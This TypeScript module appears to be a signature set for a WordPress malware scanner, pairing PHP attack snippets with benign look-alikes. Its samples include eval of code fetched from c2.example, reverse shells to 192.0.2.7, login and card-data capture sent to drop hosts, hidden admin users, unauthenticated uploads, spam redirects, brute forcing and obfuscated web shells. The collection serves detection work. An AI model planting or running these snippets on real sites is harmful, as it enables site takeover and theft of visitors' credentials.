import { base64, php } from './spelling.ts'
import type { Technique } from './technique.ts'

/** What attackers use a site for, apart from running commands on it: its users, its visitors, its files. */
export const ERRANDS: readonly Technique[] = [
  {
    name: 'plugins that fetch code',
    severity: 'suspicious',
    samples: [
      php(`add_action('wp_footer', 'tick');
function tick() { $r = wp_remote_get('http://c2.example/x'); $body = wp_remote_retrieve_body($r); if ($body) eval($body); }`),
      php(
        `$c = curl_init('http://c2.example/x'); $t = curl_exec($c); add_filter('the_content', 'f'); eval('?>' . $t);`,
      ),
    ],
    honest: [
      php(
        `add_action('init', 'news'); function news() { $body = wp_remote_retrieve_body(wp_remote_get($url)); return json_decode($body, true); }`,
      ),
      php(`$t = curl_exec($c); if ($t === false) throw new Exception(curl_error($c)); echo esc_html($t);`),
    ],
  },
  {
    name: 'uploads without a question',
    severity: 'suspicious',
    samples: [
      php(`add_action('wp_ajax_nopriv_put', 'put');
function put() { move_uploaded_file($_FILES['f']['tmp_name'], ABSPATH . $_FILES['f']['name']); die('1'); }`),
      php(`defined('ABSPATH'); rename($_FILES['a']['tmp_name'], 'wp-cache.php');`),
      php(
        `function keep($t, $d) { if (move_uploaded_file($t, $d) || copy($t, $d)) return 1; $x = file_get_contents($t); return file_put_contents($d, $x); } $p = $_GET['p'];`,
      ),
    ],
    honest: [
      php(
        `check_ajax_referer('up'); move_uploaded_file($_FILES['f']['tmp_name'], ABSPATH . 'x/' . $_FILES['f']['name']);`,
      ),
      php(`add_action('init', 'f'); function f() { rename($old, $new); }`),
    ],
  },
  {
    name: 'hidden users',
    severity: 'suspicious',
    samples: [
      php(
        `add_action('pre_user_query', function ($q) { $q->query_where .= " AND {$GLOBALS['wpdb']->users}.user_login != 'support9'"; });`,
      ),
      php(
        `function h($q) { $q->query_where = str_replace('WHERE 1=1', "WHERE 1=1 AND user_login NOT IN ('z1')", $q->query_where); }\nadd_filter("pre_user_query", "h");`,
      ),
    ],
    honest: [
      php(`add_action('pre_user_query', function ($q) { $q->query_orderby = 'ORDER BY user_registered DESC'; });`),
      php(`do_action_ref_array('pre_user_query', array(&$this)); $where = $wpdb->prepare('user_login = %s', $name);`),
    ],
  },
  {
    name: 'text from elsewhere',
    severity: 'suspicious',
    samples: [
      php(
        `add_action('wp_footer', 'l'); function l() { $t = @file_get_contents('http://seo.example/l.php?h=' . $_SERVER['HTTP_HOST']); echo $t; }`,
      ),
      php(
        `$c = curl_init('http://seo.example/g?site=' . $_SERVER['SERVER_NAME']); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($c);`,
      ),
    ],
    honest: [
      php(
        `$t = file_get_contents('https://api.example/check?site=' . $_SERVER['HTTP_HOST']); $answer = json_decode($t); echo $answer->name;`,
      ),
      php(`$link = 'https://example.org/?from=' . $_SERVER['HTTP_HOST']; echo "<a href='$link'>more</a>";`),
    ],
  },
  {
    name: 'locks for others',
    severity: 'suspicious',
    samples: [
      php(
        `$r = "<FilesMatch '\\.(php|phtml)$'>\\nDeny from all\\n</FilesMatch>"; chmod('.htaccess', 0644); file_put_contents('.htaccess', $r); chmod('.htaccess', 0444);`,
      ),
    ],
    honest: [
      php(
        `defined('ABSPATH') || exit; $r = "<FilesMatch '\\.php$'>\\nDeny from all\\n</FilesMatch>"; file_put_contents($dir . '/.htaccess', $r); chmod($dir, 0755);`,
      ),
      php(`file_put_contents($dir . '/.htaccess', "Options -Indexes\\n"); chmod($dir . '/.htaccess', 0644);`),
    ],
  },
  {
    name: 'accounts taken over',
    severity: 'suspicious',
    samples: [
      php(
        `$l = mysqli_connect($_POST['h'], 'u', 'p', 'd'); mysqli_query($l, "UPDATE wp_users SET user_pass=MD5('a') WHERE ID=1");`,
      ),
      php(
        `include 'wp-config.php'; $l = new mysqli(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME); $l->query("update {$table_prefix}users set user_pass = md5('b') where id = 1");`,
      ),
      php(
        `$u = get_current_user(); $h = fopen("/home/$u/.cpanel/contactinfo", 'w'); fwrite($h, 'email:' . $_POST['e']); fclose($h);`,
      ),
      php(
        `$p = crypt('pw', '$6$salt$'); $f = fopen("/home/" . get_current_user() . "/etc/" . $host . "/shadow", 'w'); fwrite($f, "m:$p:1:::::");`,
      ),
      php(
        `error_reporting(0); $l = mysql_connect('h', 'u', 'p'); $r = mysql_query('select username, password from members'); while ($x = mysql_fetch_row($r)) echo $x[0] . ':' . $x[1];`,
      ),
      php(
        `add_filter('authenticate', function ($u, $n, $p) { file_put_contents('/tmp/k', "$n:$p", FILE_APPEND); return $u; }, 9, 3);`,
      ),
      php(
        `add_action('wp_login', 'f'); function f() { mail('a@b.example', 'k', $_POST['log'] . ' ' . $_POST['pwd']); }`,
      ),
    ],
    honest: [
      php(`$wpdb->update($wpdb->users, array('user_pass' => wp_hash_password($new)), array('ID' => $id));`),
      php(
        `class Users { function save($id, $hash) { $this->db->query("UPDATE users SET password = '$hash' WHERE id = $id"); } }`,
      ),
      php(
        `add_filter('authenticate', 'two_factor', 30, 3); function two_factor($user, $name, $password) { return $user; }`,
      ),
      php(`$mail = file_get_contents("/home/$user/mail/new/$name"); echo crypt($password, $salt) === $hash ? 1 : 0;`),
    ],
  },
  {
    name: 'mail for anyone',
    severity: 'suspicious',
    samples: [
      php(`if (isset($_GET['to'])) { mail($_GET['to'], 'Test ' . rand(), 'it works'); echo 'sent'; }`),
      `<form method=post><input name=senderName><textarea name=emailList></textarea></form><?php class M { function go($t, $s, $m) { return mail($t, $s, $m); } }
$m = new M; foreach (preg_split('/\\n/', $_POST['emailList']) as $t) $m->go($t, $_POST['subject'], $_POST['letter'] . $_POST['senderName']);`,
    ],
    honest: [
      php(`mail('owner@example.org', 'Message from ' . $_POST['name'], $_POST['text']);`),
      `<form method=post><textarea name=message></textarea></form><?php wp_mail(get_option('admin_email'), $_POST['subject'], $_POST['message'] . $_POST['from']);`,
    ],
  },
  {
    name: 'commands from a connection',
    severity: 'suspicious',
    samples: [
      php("$s = fsockopen('192.0.2.7', 99); while (!feof($s)) { $c = fgets($s); $r = `$c`; fwrite($s, $r); }"),
      php(
        `$s = stream_socket_client('tcp://192.0.2.7:99'); while ($l = stream_get_line($s, 900)) { exec($l, $o); fwrite($s, join($o)); }`,
      ),
    ],
    honest: [
      php(`$s = fsockopen('whois.example', 43); fwrite($s, $name); while (!feof($s)) $text .= fgets($s);`),
      php(
        `class Smtp extends Transport { function say($l) { fwrite($this->s, $l); return fgets($this->s); } function open() { $this->s = fsockopen($this->host, 25); $p = popen($this->command, 'r'); } }`,
      ),
    ],
  },
  {
    name: 'visitors led away',
    severity: 'suspicious',
    samples: [
      php(
        `if (stristr($_SERVER['HTTP_REFERER'], 'google') || stristr($_SERVER['HTTP_REFERER'], 'bing')) { header('Location: http://pills.example/?s=1'); exit; }`,
      ),
      php(
        `if (preg_match('/android|iphone/i', $_SERVER['HTTP_USER_AGENT'])) header('Location: http://' . base64_decode('${base64('pills.example')}') . '/in');`,
      ),
      php(
        `$a = strtolower($_SERVER['HTTP_USER_AGENT']); foreach (array('google', 'bing', 'yahoo') as $b) if (strpos($a, $b) !== false) { $c = curl_init('http://pills.example/p?u=' . $_SERVER['REQUEST_URI']); echo curl_exec($c); exit; }`,
      ),
    ],
    honest: [
      php(
        `if (preg_match('/android|iphone/i', $_SERVER['HTTP_USER_AGENT'])) $isMobile = true; header('Location: /m/');`,
      ),
      php(
        `add_action('template_redirect', 'go'); function go() { if (strpos($_SERVER['HTTP_REFERER'], 'google') !== false) header('Location: https://example.org/welcome'); }`,
      ),
      php(
        `$bots = array('google', 'bing', 'yahoo'); foreach ($bots as $b) if (stripos($_SERVER['HTTP_USER_AGENT'], $b) !== false) $count++;`,
      ),
    ],
  },
  {
    name: 'what visitors type',
    severity: 'suspicious',
    samples: [
      php(`$f = fopen('media/thumb.gif', 'a'); fputs($f, base64_encode(serialize($_POST)) . "\\n"); fclose($f);`),
      php(
        `if (isset($_POST['cc_number'])) file_get_contents('http://drop.example/?d=' . base64_encode(json_encode($_POST)));`,
      ),
      php(`file_put_contents(dirname(__FILE__) . '/.cache', print_r($_REQUEST, true), FILE_APPEND);`),
    ],
    honest: [
      php(
        `class Log extends Base { function write() { file_put_contents('/var/log/app.log', json_encode($_POST), FILE_APPEND); } }`,
      ),
      php(`$key = md5(serialize($_GET)); $page = file_get_contents("cache/$key.html"); echo $page;`),
    ],
  },
  {
    name: 'files that another server names',
    severity: 'suspicious',
    samples: [
      php(
        `add_action('tick', 't'); function t() { $r = wp_remote_post('https://c2.example/'); foreach ($r as $f) file_put_contents(ABSPATH . $f['p'], base64_decode($f['c'])); }`,
      ),
      php(`add_filter('template_include', function ($t) { if (isset($_GET['t'])) return $_GET['t']; return $t; });`),
      php(`function get($u) { $c = curl_init($u); return curl_exec($c); } eval('?>' . get('https://c2.example/x'));`),
    ],
    honest: [
      php(`$r = wp_remote_get($url); file_put_contents($target, wp_remote_retrieve_body($r));`),
      php(
        `add_filter('template_include', function ($t) { return isset($_GET['print']) ? __DIR__ . '/print.php' : $t; });`,
      ),
    ],
  },
  {
    name: 'false logins',
    severity: 'suspicious',
    samples: [
      php(
        `mail('a@drop.example', 'log', $_POST['user'] . ':' . $_POST['pass']); header('Location: https://bank.example/');`,
      ),
      php(`file_get_contents('https://api.telegram.org/bot1/sendMessage?text=' . $_POST['password']);`),
    ],
    honest: [
      php(
        `if (password_verify($_POST['pass'], $hash)) { mail($user, 'Sign-in', 'You signed in.'); header('Location: https://example.org/'); }`,
      ),
      php(`mail('owner@example.org', 'Order', $_POST['text']); header('Location: https://example.org/thanks');`),
    ],
  },
  {
    name: 'ports and passwords of others',
    severity: 'suspicious',
    samples: [
      php(`for ($p = 1; $p < 65535; $p++) if ($s = @fsockopen('127.0.0.1', $p, $e, $m, 1)) echo $p;`),
      php(
        `foreach (explode("\\n", $_POST['list']) as $p) { $c = ssh2_connect('192.0.2.1', 22); if (ssh2_auth_password($c, 'root', trim($p))) echo $p; }`,
      ),
      php(
        `foreach (explode("\\n", file_get_contents('to.txt')) as $t) mail(trim($t), 'Notice', 'text', "From: service@bank.example");`,
      ),
    ],
    honest: [
      php(`for ($try = 1; $try < 5; $try++) if ($s = fsockopen($host, 25, $e, $m, 1)) break;`),
      php(`foreach ($subscribers as $one) mail($one->email, $subject, $text, "From: $from");`),
    ],
  },
  {
    name: 'what others hold',
    severity: 'suspicious',
    samples: [
      php(`$d = new SQLite3($_GET['d']); $r = $d->query('select 1');`),
      php(`$z = new PharData($_FILES['a']['tmp_name']); $z->extractTo('.');`),
      php(`print_r(scandir('/'));`),
      php(`function name() { return 'assert'; } call_user_func(name(), $_POST['c']);`),
      php(`(function () { eval(func_get_args()[0]); })($x);`),
      php(`system($_SERVER['REQUEST_METHOD']);`),
      php(`$c = escapeshellcmd($_GET['c']); $p = proc_open($c, $d, $pipes);`),
      php(
        `class S { function stream_open() { $this->t = $_POST['c']; return true; } } stream_wrapper_register('s', 'S'); include 's://x';`,
      ),
      php(
        `class L { function all() { return new ArrayIterator($_POST); } } $l = new L; foreach ($l->all() as $k => $v) $k($v);`,
      ),
      php(`$m = 'mb_strtoupper'; $k = $m('_get'); $v = $$k; $t = $v['a']; $t($v['b']);`),
      '<?=$_="{{{"^"?<>/";${$_}[_](${$_}[__]);',
      php(`$h = fopen('n.php', 'w'); fwrite($h, '<html><?php move_uploaded_file($_FILES[1][2], 3); ?></html>');`),
    ],
    honest: [
      php(`class Store { function open($file) { return new SQLite3($file); } }`),
      php(`print_r(scandir(__DIR__)); $z = new PharData('release.tar'); $z->extractTo($target);`),
      php(`function name() { return 'strtolower'; } echo call_user_func(name(), $_POST['c']);`),
    ],
  },
]
